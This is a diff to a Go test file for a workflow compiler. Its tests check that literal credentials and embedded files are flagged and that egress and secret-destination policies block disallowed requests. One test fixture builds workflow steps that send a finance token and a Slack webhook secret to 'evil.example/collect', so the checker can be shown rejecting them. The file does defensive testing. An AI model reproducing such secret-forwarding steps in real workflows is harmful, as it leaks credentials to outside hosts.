@@ -2,11 +2,13 @@ package compile
 
 import (
 	"os"
+	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/kobana/workflow/egress"
 	"github.com/kobana/workflow/lang"
 )
 
@@ -220,6 +222,16 @@ func TestDiagnostics(t *testing.T) {
 		{"url with an empty host before a placeholder", step(`{"type": "request", "url": "https:///${{secrets.P}}"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:///${{secrets.P}}"`, "no host", ""},
 		{"header the transport drops", req(`, "headers": {"Trailer": "X-Sum"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/Trailer", `"Trailer"`, "the transport cannot send it as written", ""},
 		{"header the transport rewrites", req(`, "headers": {"expect": "100-continue"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/expect", `"expect"`, "the transport cannot send it as written", ""},
+		{"bearer token", req(`, "headers": {"Authorization": "Bearer abcdEFGH12345678"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/Authorization", `abcdEFGH12345678`, "header Authorization holds a Bearer credential written literally", ""},
+		{"api key header", req(`, "headers": {"X-Api-Key": "k3y-0123456789ab"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/X-Api-Key", `k3y-0123456789ab`, "header X-Api-Key holds a credential", ""},
+		{"openai key in a body", req(`, "body": {"note": "use sk-proj-AbCdEfGhIjKlMnOpQrStUv here"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/note", `sk-proj-AbCdEfGhIjKlMnOpQrStUv`, "an API key in the sk-… format", ""},
+		{"aws key in a form", req(`, "form": {"k": "AKIAIOSFODNN7EXAMPLE"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/form/k", `AKIAIOSFODNN7EXAMPLE`, "an AWS access key id", ""},
+		{"password in a url", step(`{"type": "request", "url": "https://erp:hunter2@erp.example.com/x"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hunter2`, "user:password@host", ""},
+		{"password in a body", req(`, "body": {"login": "erp", "password": "hunter2"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/password", `hunter2`, `key "password" holds a password`, ""},
+		{"token in a query", step(`{"type": "request", "url": "https://a.example/x?page=2&access_token=abc123def456ghi"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `abc123def456ghi`, `query parameter "access_token"`, ""},
+		{"slack webhook url", step(`{"type": "request", "url": "https://hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX`, "a Slack webhook URL", ""},
+		{"pdf in base64", req(`, "body": {"file": "JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+"}`), CodeFileLiteral, SeverityError, "/workflow/0/body/file", `JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+`, "a PDF document written literally", ""},
+		{"data url", req(`, "form": {"logo": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"}`), CodeFileLiteral, SeverityError, "/workflow/0/form/logo", `data:image/png;base64,iVBORw0KGgoAAAANSUhEUg`, "a data: URL", ""},
 		{"duplicate step key", step(`{"type": "request", "url": "https://a.example/", "url": "https://b.example/"}`), CodeDuplicateKey, SeverityError, "/workflow/0/url", `"url"`, "duplicate key", ""},
 	}
 	for _, tc := range tests {
@@ -391,5 +403,89 @@ func TestStepSucceeds(t *testing.T) {
 	}
 	if any2xx.Expects() != "a 2xx status" || exact.Expects() != "status 201" {
 		t.Errorf("Expects: %q, %q", any2xx.Expects(), exact.Expects())
+	}
+}
+
+func TestLiteralsThatAreNotCredentials(t *testing.T) {
+	t.Parallel()
+	for _, doc := range []string{
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Bearer ${{secrets.TOKEN}}"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Basic ${{secrets.BASIC}}", "X-Api-Key": "${{secrets.K}}"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://${{secrets.U}}:${{secrets.P}}@a.example/x?token=${{secrets.T}}&page=2"}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "body": {"password": "${{secrets.PW}}", "token_type": "bearer", "token": "next", "note": "ask-for-the-sk-code", "id": "INV-2024-000123"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "form": {"file": "${{email.attachments.0}}", "b64": "${{email.attachments.0.base64}}", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}]}`,
+		`{"result": {"password": "hunter2", "key": "sk-proj-AbCdEfGhIjKlMnOpQrStUv"}}`,
+	} {
+		if _, ds := Compile([]byte(doc)); len(ds) != 0 {
+			t.Errorf("%s: %v", doc, ds)
+		}
+	}
+}
+
+func TestOptions(t *testing.T) {
+	t.Parallel()
+	doc := []byte(`{"result": 1, "workflow": [
+  {"type": "request", "url": "https://erp.example.com/payables", "headers": {"Authorization": "Bearer ${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://evil.example/collect", "body": {"t": "${{secrets.FINANCE_TOKN}}", "w": "${{secrets.SLACK_WEBHOOK_URL}}"}},
+  {"type": "request", "url": "${{secrets.SLACK_WEBHOOK_URL}}", "body": {"text": "${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://evil.example${{kobana.inbox_id}}", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}}
+]}`)
+	if _, ds := Compile(doc); len(ds) != 0 {
+		t.Fatalf("without options: %v", ds)
+	}
+	egressList := egress.MustParseList("erp.example.com", "hooks.slack.com")
+	opts := Options{
+		SecretNames: []string{"FINANCE_TOKEN", "SLACK_WEBHOOK_URL"},
+		Policy: &egress.Policy{Secrets: map[string]egress.Destinations{
+			"FINANCE_TOKEN":     egress.MustParseList("erp.example.com"),
+			"SLACK_WEBHOOK_URL": egress.MustParseList("hooks.slack.com"),
+		}, Egress: &egressList, EgressOf: "agent Invoices"},
+	}
+	plan, ds := CompileWith(doc, opts)
+	if plan != nil {
+		t.Error("a plan despite errors")
+	}
+	type got struct{ code, ptr, covers, msg string }
+	var gs []got
+	for _, d := range ds {
+		gs = append(gs, got{d.Code, d.Pointer, string(doc[d.Range.Start.Byte:d.Range.End.Byte]), d.Message})
+	}
+	want := []got{
+		{CodeEgressDenied, "/workflow/1/url", `"https://evil.example/collect"`, "step 1 would not be sent: evil.example is outside the egress list of agent Invoices, which allows erp.example.com, hooks.slack.com"},
+		{CodeUnknownSecret, "/workflow/1/body/t", "${{secrets.FINANCE_TOKN}}", `secret "FINANCE_TOKN" is not among the workspace's secrets (FINANCE_TOKEN, SLACK_WEBHOOK_URL), so the step would fail before sending; did you mean ${{secrets.FINANCE_TOKEN}}?`},
+		{CodeSecretDestination, "/workflow/1/body/w", "${{secrets.SLACK_WEBHOOK_URL}}", "step 1 would not be sent: secret SLACK_WEBHOOK_URL may be sent only to hooks.slack.com; evil.example is not one of its destinations"},
+	}
+	if diff := cmp.Diff(want, gs, cmp.AllowUnexported(got{})); diff != "" {
+		t.Errorf("diagnostics (-want +got):\n%s", diff)
+	}
+	for _, d := range ds {
+		if d.Code == CodeUnknownSecret && d.Suggestion != "${{secrets.FINANCE_TOKEN}}" {
+			t.Errorf("suggestion %q", d.Suggestion)
+		}
+	}
+	// No secret names known: nothing about names; an empty list: every reference is unknown.
+	if ds := LintWith(doc, Options{SecretNames: []string{}}); len(ds) != 6 || !strings.Contains(ds[0].Message, "the workspace has no secrets, so") {
+		t.Errorf("with no secrets: %v", ds)
+	}
+}
+
+func TestLiteralTarget(t *testing.T) {
+	t.Parallel()
+	for url, want := range map[string]string{
+		"https://ERP.example.com/payables":                    "erp.example.com",
+		"https://erp.example.com:8443/p/${{kobana.email_id}}": "erp.example.com:8443",
+		"http://bücher.example?x=${{kobana.now}}":             "xn--bcher-kva.example",
+		"https://erp.example.com${{kobana.email_id}}":         "",
+		"${{secrets.SLACK_WEBHOOK_URL}}":                      "",
+		"https://${{secrets.U}}@erp.example.com/":             "",
+	} {
+		plan, ds := Compile([]byte(`{"result": 1, "workflow": [{"type": "request", "url": ` + strconv.Quote(url) + `}]}`))
+		if plan == nil {
+			t.Fatalf("%s: %v", url, ds)
+		}
+		tg, ok := plan.Steps[0].LiteralTarget()
+		if got := tg.String(); ok != (want != "") || got != want {
+			t.Errorf("LiteralTarget(%s) = %q %v, want %q", url, got, ok, want)
+		}
 	}
 }
